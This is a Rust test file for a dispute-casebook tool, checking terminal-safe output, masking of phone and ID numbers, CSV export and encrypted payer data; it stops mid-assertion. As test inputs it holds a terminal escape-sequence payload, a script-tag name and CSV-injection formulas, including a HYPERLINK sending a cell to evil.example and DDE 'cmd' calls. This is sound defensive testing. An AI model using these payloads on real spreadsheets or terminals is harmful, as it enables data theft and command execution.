//! Issue 11: payer data kept secret, output that cannot be turned against its reader, size
//! limits. An attacker's payloads in committed files and commit messages print harmlessly;
//! nothing personal reaches a commit message; spreadsheet formulas are neutralised; huge
//! files are refused.

use crate::harness::*;

/// Characters that must never reach a terminal from the casebook's data.
const DANGEROUS: &[char] = &[
    '\u{1b}',
    '\u{07}',
    '\u{202E}',
    '\u{2066}',
    '\u{2028}',
    '\u{2029}',
    '\u{200B}',
    '\u{2060}',
    '\u{00AD}',
    '\u{3164}',
    '\u{E0041}',
    '\u{FEFF}',
];

fn assert_harmless(what: &str, text: &str) {
    // a CSV document opens with a byte-order mark for Excel
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    for c in DANGEROUS {
        assert!(
            !text.contains(*c),
            "{what} printed U+{:04X}: {text:?}",
            *c as u32
        );
    }
}

fn all_output(out: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// ESC sequences, bidi controls, line separators and tag characters in a committed case
/// file and in a commit message are printed by no command.
#[test]
fn terminal_payloads_in_files_and_commits_print_harmlessly() {
    let env = Env::new();
    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
    let payload = "\u{1b}]0;PWNED\u{07}\u{1b}[2J申请\u{202E}txt.exe\u{2028}次行\u{2066}\u{200B}\u{E0041}\u{3164}\u{00AD}";
    env.edit_case(&id, |t| {
        t.insert("summary".into(), toml::Value::String(payload.into()));
        t.insert("district".into(), toml::Value::String(payload.into()));
    });
    env.git_commit_all(&format!("hand edit {payload}"));
    for args in [
        vec!["list"],
        vec!["list", "--json"],
        vec!["show", id.as_str()],
        vec!["show", id.as_str(), "--json"],
        vec!["log", id.as_str()],
        vec!["log", id.as_str(), "--json"],
        vec!["verify"],
        vec!["export", "--format", "csv"],
        vec!["export", "--format", "json"],
    ] {
        let out = env.run(&args);
        let text = all_output(&out);
        assert_harmless(&format!("{args:?}"), &text);
        assert!(!text.contains("\u{1b}]0;"), "{args:?}: {text:?}");
    }
    // the visible part of the text is still there
    let sheet = env.ok(&["show", &id]);
    assert!(sheet.contains("PWNED") && sheet.contains("次行"), "{sheet}");
}

/// Invisible and format characters are refused in input, naming the field; names refuse
/// `<` and `>` (an operator named `<script>` broke every later commit of theirs).
#[test]
fn hidden_characters_and_markup_are_refused_in_input() {
    let env = Env::new();
    for (flag, value, field) in [
        ("--payer-name", "芮城县\u{2028}恒达公司", "缴费人名称"),
        ("--payer-name", "芮城县\u{2060}恒达公司", "缴费人名称"),
        ("--payer-name", "芮城县\u{00AD}恒达公司", "缴费人名称"),
        ("--payer-name", "芮城县\u{3164}恒达公司", "缴费人名称"),
        ("--payer-name", "芮城县\u{E0041}恒达公司", "缴费人名称"),
        ("--summary", "有异议\u{1b}[2J", "反映事项"),
        ("--contact", "王\u{202E}小明", "联系人"),
        (
            "--payer-name",
            "<script>alert(1)</script>公司",
            "缴费人名称",
        ),
    ] {
        let mut args = vec!["--as".to_string(), "zhangsan".to_string()];
        args.extend(register_args(&[(flag, value)]));
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let err = env.fails(4, &args);
        assert!(err.contains(field), "{flag} {value:?}: {err}");
        assert_harmless(flag, &err);
    }
    let err = env.as_fails(
        "admin",
        4,
        &[
            "operator",
            "add",
            "mallory",
            "--name",
            "<script>x</script>",
            "--email",
            "mallory@rc.example.cn",
            "--dept",
            "tax",
            "--role",
            "receiver",
        ],
    );
    assert!(err.contains("<") || err.contains("姓名"), "{err}");
}

/// Ticket numbers, import file names and titles go into commit messages: a phone or ID
/// number in them is refused however it is written; an individual payer appears in the
/// subject only by the mask of the name.
#[test]
fn nothing_personal_reaches_a_commit_message() {
    let env = Env::new();
    for title in [
        "电话137_0000_1111",
        "电话\u{4E00}\u{4E09}\u{4E03}\u{96F6}\u{96F6}\u{96F6}\u{96F6}\u{4E00}\u{4E00}\u{4E00}\u{4E00}",
        "身份证110105-19491231-002X",
        "电话１３７００００１１１１",
    ] {
        let mut args = vec!["--as".to_string(), "zhangsan".to_string()];
        args.extend(register_args(&[("--title", title)]));
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let err = env.fails(4, &args);
        assert!(err.contains("标题"), "{title}: {err}");
    }

    let id = env.register_with(
        "zhangsan",
        &[
            ("--payer-kind", "individual"),
            ("--payer-name", "孙秀英"),
            ("--payer-id", "11010519491231002X"),
            ("--phone", "13700001111"),
            ("--contact", "赵小红"),
            ("--at", "2026-11-02T09:00:00+08:00"),
        ],
    );
    let subjects = env.git(&["log", "--format=%B"]);
    assert!(!subjects.contains("孙秀英"), "{subjects}");
    assert!(subjects.contains("孙**"), "{subjects}");

    // a referral dispatched with a ticket number holding the payer's details
    env.act(
        "zhangsan",
        &[
            "escalate",
            &id,
            "--to",
            "hotline",
            "--reason",
            "职责不清，请转交承办部门",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    let err = env.as_fails(
        "zhoujiu",
        4,
        &[
            "assign",
            &id,
            "--dept",
            "hrss",
            "--hotline-ticket",
            "孙秀英-11010519491231002X-13700001111",
            "--at",
            "2026-11-04T09:00:00+08:00",
        ],
    );
    assert!(!err.contains("13700001111"), "{err}");
    env.act(
        "zhoujiu",
        &[
            "assign",
            &id,
            "--dept",
            "hrss",
            "--hotline-ticket",
            "12345-20261104-0032",
            "--at",
            "2026-11-04T09:00:00+08:00",
        ],
    );

    // an import file whose name holds a phone number
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("台账-137 0000 1111.csv");
    std::fs::write(&path, env.ok(&["import", "--template"])).unwrap();
    let err = env.as_fails("zhangsan", 4, &["import", path.to_str().unwrap()]);
    assert!(err.contains("文件名"), "{err}");

    let log = env.git(&["log", "--format=%B"]);
    for secret in ["13700001111", "11010519491231002X", "孙秀英", "赵小红"] {
        assert!(!log.contains(secret), "{secret} in history: {log}");
    }
}

/// A phone or ID number typed into free text is masked wherever it is shown, unless
/// revealed by someone who may see it.
#[test]
fn numbers_in_free_text_are_masked_unless_revealed() {
    let env = Env::new();
    let id = env.register_with(
        "zhangsan",
        &[
            (
                "--summary",
                "缴费人称请回电 137 0000 1111，身份证 11010519491231002X",
            ),
            ("--at", "2026-11-02T09:00:00+08:00"),
        ],
    );
    for args in [
        vec!["show", id.as_str()],
        vec!["show", id.as_str(), "--json"],
    ] {
        let out = env.ok(&args);
        assert!(!out.contains("0000 1111"), "{args:?}: {out}");
        assert!(!out.contains("11010519491231002X"), "{args:?}: {out}");
        assert!(
            out.contains("137 **** 1111") || out.contains("137 ****"),
            "{out}"
        );
    }
    let revealed = env.as_ok("zhangsan", &["show", &id, "--reveal"]);
    assert!(revealed.contains("137 0000 1111"), "{revealed}");
}

/// Formula cells of the CSV export are prefixed with `'` and a CSV reader gets them back as
/// text.
#[test]
fn csv_export_neutralises_formulas() {
    let env = Env::new();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")";
    let cmd = "+cmd|' /C calc'!A0";
    let id = env.register_with(
        "zhangsan",
        &[
            ("--payer-name", formula),
            ("--district", cmd),
            ("--at", "2026-11-02T09:00:00+08:00"),
        ],
    );
    env.act(
        "zhangsan",
        &[
            "classify",
            &id,
            "--track",
            "own",
            "--category",
            "3",
            "--at",
            "2026-11-02T10:00:00+08:00",
        ],
    );
    env.act(
        "zhangsan",
        &[
            "reply",
            &id,
            "--text",
            "@SUM(1+1)*cmd|' /C calc'!A0\n其余说明",
            "--at",
            "2026-11-02T11:00:00+08:00",
        ],
    );
    let csv_text = env.ok(&["export", "--format", "csv"]);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 1);
    let cells: Vec<&str> = rows[0].iter().collect();
    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
    assert!(cells.contains(&format!("'{cmd}").as_str()), "{cells:?}");
    assert!(cells.iter().any(|c| c.starts_with("'@SUM")), "{cells:?}");
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "live formula {c:?}"
        );
    }
}

/// A case file over 256 KiB is refused by every reader, and `show` says so in a line
/// rather than echoing it.
#[test]
fn an_oversized_case_file_is_refused() {
    let env = Env::new();
    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
    let huge = "很长".repeat(50_000);
    env.edit_case(&id, |t| {
        t.insert("summary".into(), toml::Value::String(huge.clone()));
    });
    env.git_commit_all("a huge summary");
    let err = env.fails(4, &["show", &id]);
    assert!(err.contains("KiB"), "{err}");
    assert!(err.len() < 2_000, "{} bytes of error", err.len());
    let (_, err) = env.fails_with_output(4, &["list"]);
    assert!(err.contains("KiB") && err.len() < 2_000, "{err}");
    let (out, err) = env.fails_with_output(4, &["export", "--format", "json"]);
    assert!(!out.contains("很长很长很长"), "exported the huge file");
    assert!(err.len() < 2_000);
}

/// A broken case file's problem is named in a few lines, without the file's content: no
/// phone number from the file reaches the screen.
#[test]
fn a_broken_file_is_named_not_echoed() {
    let env = Env::new();
    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
    let path = env.path(&case_path(&id));
    let text = std::fs::read_to_string(&path).unwrap();
    let broken = format!(
        "{text}\nextra = \"联系电话 13911112222\"\n{}\n",
        "x = [[[ 13911112222".repeat(20)
    );
    std::fs::write(&path, broken).unwrap();
    env.git_commit_all("broken");
    let err = env.fails(4, &["show", &id]);
    assert!(!err.contains("13911112222"), "{err}");
    assert!(err.lines().count() <= 6, "{err}");

    // a schema error names the rule, not the value
    let env = Env::new();
    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
    env.edit_case(&id, |t| {
        t.insert("district".into(), toml::Value::String(String::new()));
        t.insert(
            "receiving_dept".into(),
            toml::Value::String("TAX 13911112222".into()),
        );
    });
    env.git_commit_all("schema");
    let err = env.fails(4, &["show", &id]);
    assert!(!err.contains("13911112222"), "{err}");
}

/// `casebook.toml` over 1 MiB, or with more than 2,000 operators, is refused before it is
/// parsed.
#[test]
fn an_oversized_casebook_is_refused() {
    let env = Env::new();
    let mut text = env.read("casebook.toml");
    text.push_str(&format!("# {}\n", "x".repeat(1024 * 1024)));
    std::fs::write(env.path("casebook.toml"), &text).unwrap();
    env.git_commit_all("bloat");
    let err = env.fails(4, &["list"]);
    assert!(err.contains("KiB"), "{err}");

    let env = Env::new();
    let mut text = env.read("casebook.toml");
    for i in 0..2001 {
        text.push_str(&format!(
            "\n[[operators]]\nid = \"op{i}\"\nname = \"x\"\nemail = \"op{i}@x.cn\"\ndept = \"tax\"\nroles = [\"receiver\"]\n"
        ));
    }
    std::fs::write(env.path("casebook.toml"), &text).unwrap();
    env.git_commit_all("crowd");
    let err = env.fails(4, &["list"]);
    assert!(err.contains("2000"), "{err}");
}

// ---------------------------------------------------------------------------------------
// Payer data encrypted at rest (DESIGN §11). The tests open the files with the `age` crate
// and the operators' own SSH keys, independently of the tool.

const PHONE: &str = "13700001111";
const ID_NUMBER: &str = "11010519491231002X";
const CONTACT: &str = "赵小红";
const NAME: &str = "孙秀英";

/// An individual's case with every confidential field, registered by tax and classified
/// as a general matter.
fn individual_case(env: &Env) -> String {
    let id = env.register_with(
        "zhangsan",
        &[
            ("--payer-kind", "individual"),
            ("--payer-name", NAME),
            ("--payer-id", ID_NUMBER),
            ("--phone", PHONE),
            ("--contact", CONTACT),
            ("--title", "灵活就业人员滞纳金加收异议"),
            ("--at", "2026-11-02T09:00:00+08:00"),
        ],
    );
    env.act(
        "zhangsan",
        &[
            "classify",
            &id,
            "--track",
            "general",
            "--category",
            "6",
            "--at",
            "2026-11-02T10:00:00+08:00",
        ],
    );
    id
}

/// An operator's SSH private key as age reads it.
fn ssh_identity(who: &str) -> age::ssh::Identity {
    let text = std::fs::read_to_string(key_file(who)).unwrap();
    age::ssh::Identity::from_buffer(text.as_bytes(), None).unwrap()
}

fn decrypt(armored: &str, identity: &dyn age::Identity) -> Option<Vec<u8>> {
    use std::io::Read;
    let reader = age::armor::ArmoredReader::new(armored.as_bytes());
    let decryptor = age::Decryptor::new_buffered(std::io::BufReader::new(reader)).ok()?;
    let mut out = vec![];
    decryptor
        .decrypt(std::iter::once(identity))
        .ok()?
        .read_to_end(&mut out)
        .ok()?;
    Some(out)
}

/// Every department key (current or retired, of any department) that `who`'s own SSH key
/// opens, read straight from casebook.toml as committed.
fn dept_keys_opened_by(env: &Env, who: &str) -> Vec<age::x25519::Identity> {
    let book: toml::Value = toml::from_str(&env.git(&["show", "HEAD:casebook.toml"])).unwrap();
    let ssh = ssh_identity(who);
    let mut out = vec![];
    for dept in book["departments"].as_array().unwrap() {
        for key in dept
            .get("keys")
            .and_then(|k| k.as_array())
            .into_iter()
            .flatten()
        {
            if let Some(secret) = decrypt(key["secret"].as_str().unwrap(), &ssh) {
                let text = String::from_utf8(secret).unwrap();
                out.push(text.trim().parse().unwrap());
            }
        }
    }
    out
}

/// The sealed payer data of a case as committed in HEAD.
fn sealed_data(env: &Env, id: &str) -> String {
    let case: toml::Value =
        toml::from_str(&env.git(&["show", &format!("HEAD:{}", case_path(id))])).unwrap();
    case["payer"]["sealed"]["data"]
        .as_str()
        .expect("the payer data is sealed")
        .to_string()
}

/// The departments a case is sealed to, as its file lists them.
fn sealed_to(env: &Env, id: &str) -> Vec<String> {
    let case: toml::Value = toml::from_str(&env.read(&case_path(id))).unwrap();
    case["payer"]["sealed"]["recipients"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["dept"].as_str().unwrap().to_string())
        .collect()
}

/// Whether `who` can decrypt a case's payer data with nothing but the committed files and
/// their own SSH key.
fn can_read(env: &Env, id: &str, who: &str) -> bool {
    let data = sealed_data(env, id);
    // the SSH key itself is no recipient of a case
    assert!(decrypt(&data, &ssh_identity(who)).is_none());
    dept_keys_opened_by(env, who)
        .iter()
        .any(|k| decrypt(&data, k).is_some())
}

#[test]
fn an_involved_department_reveals_and_an_uninvolved_one_cannot_even_with_the_files() {
    let env = Env::new();
    let id = individual_case(&env);
    let file = env.read(&case_path(&id));
    for secret in [PHONE, ID_NUMBER, CONTACT, NAME] {
        assert!(!file.contains(secret), "{secret} in the case file:\n{file}");
    }
    // the receiving department reveals
    let sheet = env.as_ok("zhangsan", &["show", &id, "--reveal"]);
    for secret in [PHONE, ID_NUMBER, CONTACT, NAME] {
        assert!(sheet.contains(secret), "{secret}: {sheet}");
    }
    assert!(can_read(&env, &id, "zhangsan"));
    // justice is not involved: refused, and its key opens nothing of the case either
    let err = env.as_fails("sunba", 1, &["show", &id, "--reveal"]);
    assert!(
        err.contains("不能解密") && err.contains("县司法局"),
        "{err}"
    );
    for secret in [PHONE, ID_NUMBER, CONTACT, NAME] {
        assert!(!err.contains(secret));
    }
    assert!(!can_read(&env, &id, "sunba"));
    assert!(!can_read(&env, &id, "lisi"));
    // without --reveal, nobody needs a key and everyone sees masks
    let sheet = env.ok(&["show", &id]);
    assert!(
        sheet.contains("孙**") && sheet.contains("137****1111"),
        "{sheet}"
    );
}

#[test]
fn assigning_a_department_opens_the_case_to_it_in_the_same_commit() {
    let env = Env::new();
    let id = individual_case(&env);
    assert!(!sealed_to(&env, &id).contains(&"hrss".to_string()));
    env.as_fails("lisi", 1, &["show", &id, "--reveal"]);
    let before = env.head();
    env.act(
        "zhangsan",
        &[
            "assign",
            &id,
            "--dept",
            "hrss",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    // one commit: the assignment and the data sealed again for hrss
    assert_eq!(env.rev("HEAD~1"), before);
    let changed = env.git(&["show", "--name-only", "--format=", "HEAD"]);
    assert_eq!(changed.trim(), case_path(&id));
    assert!(sealed_to(&env, &id).contains(&"hrss".to_string()));
    assert!(can_read(&env, &id, "lisi"));
    let sheet = env.as_ok("lisi", &["show", &id, "--reveal"]);
    assert!(sheet.contains(PHONE), "{sheet}");

    // withdrawing the assignment closes the case to hrss from then on
    env.act(
        "zhangsan",
        &[
            "assign",
            &id,
            "--remove",
            "hrss",
            "--reason",
            "不涉及社保待遇",
            "--at",
            "2026-11-04T09:00:00+08:00",
        ],
    );
    assert!(!sealed_to(&env, &id).contains(&"hrss".to_string()));
    assert!(!can_read(&env, &id, "lisi"));
    env.as_fails("lisi", 1, &["show", &id, "--reveal"]);
}

#[test]
fn imported_payer_data_is_encrypted_too() {
    let env = Env::new();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("台账.csv");
    std::fs::write(&path, env.ok(&["import", "--template"])).unwrap();
    let out = env.run(&["--as", "zhangsan", "import", path.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    // a general matter goes to the petition bureau too, which has no operator with a key
    // in this casebook: named once, and skipped
    assert_eq!(stderr.matches(NO_KEY_YET).count(), 1, "{stderr}");
    assert!(
        stderr.contains(&format!("县信访局{NO_KEY_YET}")),
        "{stderr}"
    );
    assert!(!sealed_to(&env, &id).contains(&"petition".to_string()));
    let file = env.read(&case_path(&id));
    assert!(
        file.contains("-----BEGIN AGE ENCRYPTED FILE-----"),
        "{file}"
    );
    for secret in ["13800000000", "王小明"] {
        assert!(!file.contains(secret), "{secret} in {file}");
    }
    // the departments whose opinions the row records are recipients
    let to = sealed_to(&env, &id);
    for d in ["tax", "hrss", "medical"] {
        assert!(to.contains(&d.to_string()), "{to:?}");
    }
    let sheet = env.as_ok("zhaoliu", &["show", &id, "--reveal"]);
    assert!(sheet.contains("13800000000"), "{sheet}");
    env.as_fails("sunba", 1, &["show", &id, "--reveal"]);
}

/// The warning that a recipient department has no active operator with a key yet.
const NO_KEY_YET: &str = "还没有登记了密钥的在职操作员";

/// A recipient department without an operator holding a key (the petition bureau of the
/// standard casebook) is named in a warning and skipped; once it has one, the case's next
/// action opens the case to it.
#[test]
fn a_department_without_a_key_is_named_and_gets_the_case_once_it_has_one() {
    let env = Env::new();
    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
    assert!(!sealed_to(&env, &id).contains(&"petition".to_string()));
    let at = "2026-11-02T10:00:00+08:00";
    let classify = [
        "classify",
        &id,
        "--track",
        "general",
        "--category",
        "6",
        "--at",
        at,
    ];
    let stderr = stderr_of(&env, "zhangsan", &classify);
    assert!(
        stderr.contains(&format!("县信访局{NO_KEY_YET}")),
        "{stderr}"
    );
    let to = sealed_to(&env, &id);
    assert!(to.contains(&"approval".to_string()), "the workroom: {to:?}");
    assert!(!to.contains(&"petition".to_string()), "{to:?}");

    add_operator(&env, "admin", "xinfang", "petition", "handler");
    assert!(!can_read(&env, &id, "xinfang"));
    let at = "2026-11-03T09:00:00+08:00";
    let stderr = stderr_of(
        &env,
        "zhangsan",
        &["assign", &id, "--dept", "hrss", "--at", at],
    );
    assert!(!stderr.contains(NO_KEY_YET), "{stderr}");
    assert!(sealed_to(&env, &id).contains(&"petition".to_string()));
    assert!(can_read(&env, &id, "xinfang"));
}

/// The department's current key as committed: its public half and whom it is wrapped to.
fn current_dept_key(env: &Env, dept: &str) -> (String, usize) {
    let book: toml::Value = toml::from_str(&env.git(&["show", "HEAD:casebook.toml"])).unwrap();
    let d = book["departments"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"].as_str() == Some(dept))
        .unwrap();
    let k = d["keys"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .find(|k| k.get("retired").is_none())
        .expect("a current key");
    (
        k["recipient"].as_str().unwrap().to_string(),
        k["wrapped_to"].as_array().unwrap().len(),
    )
}

fn add_operator(env: &Env, admin: &str, id: &str, dept: &str, role: &str) -> String {
    let email = format!("{id}@rc.example.cn");
    let name = "新同事";
    let args = [
        "operator", "add", id, "--name", name, "--email", &email, "--dept", dept,
    ];
    stderr_of(env, admin, &[&args[..], &["--role", role]].concat())
}

/// Run as `who` and expect success; what the command printed on stderr.
fn stderr_of(env: &Env, who: &str, args: &[&str]) -> String {
    let mut full = vec!["--as", who];
    full.extend_from_slice(args);
    let out = env.run(&full);
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "{stderr}");
    stderr
}

#[test]
fn disabling_an_operator_closes_new_cases_to_them() {
    let env = Env::new();
    let old = individual_case(&env);
    assert!(can_read(&env, &old, "wushi"));
    let (key_before, _) = current_dept_key(&env, "tax");
    let out = env.run(&["--as", "admin", "operator", "disable", "wushi"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("县税务局的部门密钥已更换") && stderr.contains("wushi"),
        "{stderr}"
    );
    let (key_after, _) = current_dept_key(&env, "tax");
    assert_ne!(key_before, key_after, "the key is rotated");

    // a case registered from now on is closed to wushi, even with the files
    let new = individual_case(&env);
    assert!(can_read(&env, &new, "zhangsan"));
    assert!(!can_read(&env, &new, "wushi"));
    // the old case keeps its seal until it is acted on; then it is sealed to the new key
    assert!(can_read(&env, &old, "wushi"));
    env.act(
        "zhangsan",
        &[
            "assign",
            &old,
            "--dept",
            "hrss",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    assert!(!can_read(&env, &old, "wushi"));
    assert!(can_read(&env, &old, "zhangsan"));
    let (code, findings) = env.verify_json(&[]);
    assert_eq!((code, findings.len()), (0, 0), "{findings:?}");
}

#[test]
fn adding_an_operator_opens_the_department_key_or_rotates_it() {
    let env = Env::new();
    let old = individual_case(&env);
    // an admin of tax opens tax's key to the newcomer: they read earlier cases too
    let stderr = add_operator(&env, "admin", "xinren", "tax", "receiver");
    assert!(
        stderr.contains("县税务局的部门密钥已向 xinren 开放"),
        "{stderr}"
    );
    assert!(can_read(&env, &old, "xinren"));
    env.as_ok("xinren", &["show", &old, "--reveal"]);

    // an admin outside tax cannot open tax's key: it is replaced, and the admin is told
    add_operator(&env, "admin", "admin2", "gov", "admin");
    let (before, _) = current_dept_key(&env, "tax");
    let stderr = add_operator(&env, "admin2", "xinren2", "tax", "receiver");
    assert!(
        stderr.contains("你不能打开县税务局的部门密钥") && stderr.contains("xinren2"),
        "{stderr}"
    );
    let (after, wrapped) = current_dept_key(&env, "tax");
    assert_ne!(before, after);
    assert_eq!(wrapped, 5, "admin, zhangsan, wushi, xinren, xinren2");
    // new cases are open to the newcomer, earlier ones not yet
    let new = individual_case(&env);
    assert!(can_read(&env, &new, "xinren2"));
    assert!(!can_read(&env, &old, "xinren2"));
    env.as_fails("xinren2", 1, &["show", &old, "--reveal"]);
    // the newcomer cannot assign a department to the earlier case: they cannot decrypt it
    // to seal it for that department, and nothing is written
    let err = env.as_fails(
        "xinren2",
        1,
        &[
            "assign",
            &old,
            "--dept",
            "hrss",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    assert!(
        err.contains("重新加密") && err.contains("不能解密"),
        "{err}"
    );
    // a colleague who can decrypt it does; the case is then sealed to the current key
    env.act(
        "zhangsan",
        &[
            "assign",
            &old,
            "--dept",
            "hrss",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    assert!(can_read(&env, &old, "xinren2"));
    let (code, findings) = env.verify_json(&[]);
    assert_eq!((code, findings.len()), (0, 0), "{findings:?}");
}

#[test]
fn a_new_ssh_key_rotates_the_department_key_and_keeps_the_history_readable() {
    let env = Env::new();
    let old = individual_case(&env);
    let out = env.run(&[
        "--as",
        "admin",
        "operator",
        "key",
        "zhangsan",
        "--public-key",
        &public_key("zhangsan-2027"),
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("县税务局的部门密钥已更换"), "{stderr}");
    // with the new key, zhangsan still reads the earlier case (the admin opened the former
    // department key to it) and the new ones
    let reveal = env
        .cmd()
        .env("DISPUTE_KEY", key_file("zhangsan-2027"))
        .args(["--as", "zhangsan", "show", &old, "--reveal"])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&reveal.stdout).contains(PHONE),
        "{}",
        String::from_utf8_lossy(&reveal.stderr)
    );
    assert!(can_read(&env, &old, "zhangsan-2027"));
    let (code, findings) = env.verify_json(&[]);
    assert_eq!((code, findings.len()), (0, 0), "{findings:?}");
}

#[test]
fn moving_an_operator_to_another_department_moves_their_access() {
    let env = Env::new();
    let old = individual_case(&env);
    let out = env.run(&[
        "--as", "admin", "operator", "edit", "wushi", "--dept", "hrss",
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("县税务局的部门密钥已更换"), "{stderr}");
    assert!(stderr.contains("县人社局"), "{stderr}");
    // tax's cases from now on are closed to wushi; hrss's open
    let new = individual_case(&env);
    assert!(!can_read(&env, &new, "wushi"));
    env.act(
        "zhangsan",
        &[
            "assign",
            &new,
            "--dept",
            "hrss",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    assert!(can_read(&env, &new, "wushi"));
    assert!(can_read(&env, &new, "lisi"));
    let _ = old;
    let (code, findings) = env.verify_json(&[]);
    assert_eq!((code, findings.len()), (0, 0), "{findings:?}");
}

// ---------------------------------------------------------------------------------------
// Upgrading an existing casebook, and what `verify` checks without keys.

/// A casebook as it was before payer data was encrypted: no department keys, no
/// `[privacy]`. Returns the environment and the commit from which its history is checked.
fn legacy_env() -> (Env, String) {
    let env = Env::new();
    let mut book: toml::Table = toml::from_str(&env.read("casebook.toml")).unwrap();
    book.remove("privacy");
    for d in book["departments"].as_array_mut().unwrap() {
        d.as_table_mut().unwrap().remove("keys");
    }
    std::fs::write(env.path("casebook.toml"), toml::to_string(&book).unwrap()).unwrap();
    env.git_commit_all("a casebook from before issue 11");
    let base = env.head();
    (env, base)
}

/// Every file of the working tree's `cases/` and `casebook.toml`, concatenated.
fn tree_text(env: &Env) -> String {
    let mut out = env.read("casebook.toml");
    let mut stack = vec![env.path("cases")];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let p = entry.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push_str(&std::fs::read_to_string(&p).unwrap());
            }
        }
    }
    out
}

#[test]
fn encrypt_payers_moves_an_existing_casebook_into_ciphertext_in_one_commit() {
    let (env, base) = legacy_env();
    let id = individual_case(&env);
    env.act(
        "zhangsan",
        &[
            "assign",
            &id,
            "--dept",
            "hrss",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    let other = env.register("wangfang", "2026-11-04T09:00:00+08:00");
    assert!(tree_text(&env).contains(PHONE), "plain before the upgrade");

    // only an admin, and nothing written when refused
    env.as_fails("zhangsan", 1, &["admin", "encrypt-payers"]);
    let before = env.head();
    let out = env.run(&["--as", "admin", "admin", "encrypt-payers"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("2 件") && stderr.contains("README"),
        "{stderr}"
    );
    assert_eq!(env.rev("HEAD~1"), before, "one commit");
    env.assert_clean();
    let subject = env.git(&["log", "-1", "--format=%s"]);
    assert!(subject.starts_with("admin-encrypt-payers: "), "{subject}");

    let now = tree_text(&env);
    for secret in [PHONE, ID_NUMBER, CONTACT, NAME, "13812340000"] {
        assert!(!now.contains(secret), "{secret} still in the clear");
    }
    // history before the upgrade still holds the clear text (the README says so)
    let old = env.git(&["show", &format!("{before}:{}", case_path(&id))]);
    assert!(old.contains(PHONE));

    assert!(can_read(&env, &id, "zhangsan"));
    assert!(can_read(&env, &id, "lisi"), "assigned before the upgrade");
    assert!(!can_read(&env, &id, "sunba"));
    assert!(can_read(&env, &other, "wangfang"));
    let sheet = env.as_ok("lisi", &["show", &id, "--reveal"]);
    assert!(sheet.contains(PHONE), "{sheet}");
    // later cases are sealed from the start
    let later = individual_case(&env);
    assert!(!env.read(&case_path(&later)).contains(PHONE));

    let (code, findings) = env.verify_json(&["--since", &base]);
    assert_eq!((code, findings.len()), (0, 0), "{findings:#?}");
    // once is enough
    let err = env.as_fails("admin", 4, &["admin", "encrypt-payers"]);
    assert!(err.contains("已经加密"), "{err}");
}

/// The findings of `verify --json` whose rule says one of `words`.
fn findings_saying(env: &Env, words: &[&str]) -> Vec<serde_json::Value> {
    let (code, findings) = env.verify_json(&[]);
    assert_eq!(code, 1, "verify must find something: {findings:#?}");
    findings
        .into_iter()
        .filter(|f| {
            let rule = f["rule"].as_str().unwrap_or("");
            words.iter().any(|w| rule.contains(w))
        })
        .collect()
}

/// Amend the last commit with the working tree, keeping its message, author and trailers.
fn amend(env: &Env) {
    env.git(&[
        "-c",
        "user.name=张三",
        "-c",
        "user.email=zhangsan@rc.example.cn",
        "commit",
        "-q",
        "-a",
        "--amend",
        "--no-edit",
    ]);
}

#[test]
fn verify_finds_payer_data_written_in_the_clear() {
    let env = Env::new();
    // a registration whose file is rewritten with the payer in the clear
    let id = env.register_with(
        "zhangsan",
        &[
            ("--payer-kind", "individual"),
            ("--payer-name", NAME),
            ("--payer-id", ID_NUMBER),
            ("--phone", PHONE),
            ("--contact", CONTACT),
            ("--at", "2026-11-02T09:00:00+08:00"),
        ],
    );
    let clear = env.as_ok("zhangsan", &["show", &id, "--json", "--reveal"]);
    let clear: serde_json::Value = serde_json::from_str(&clear).unwrap();
    env.edit_case(&id, |t| {
        let payer = t["payer"].as_table_mut().unwrap();
        payer.remove("sealed");
        for field in ["name", "phone", "id_code", "contact"] {
            payer.insert(field.into(), clear["payer"][field].as_str().unwrap().into());
        }
    });
    amend(&env);
    let found = findings_saying(&env, &["明文"]);
    assert!(
        found
            .iter()
            .any(|f| f["case"] == id && f["commit"] != "HEAD"),
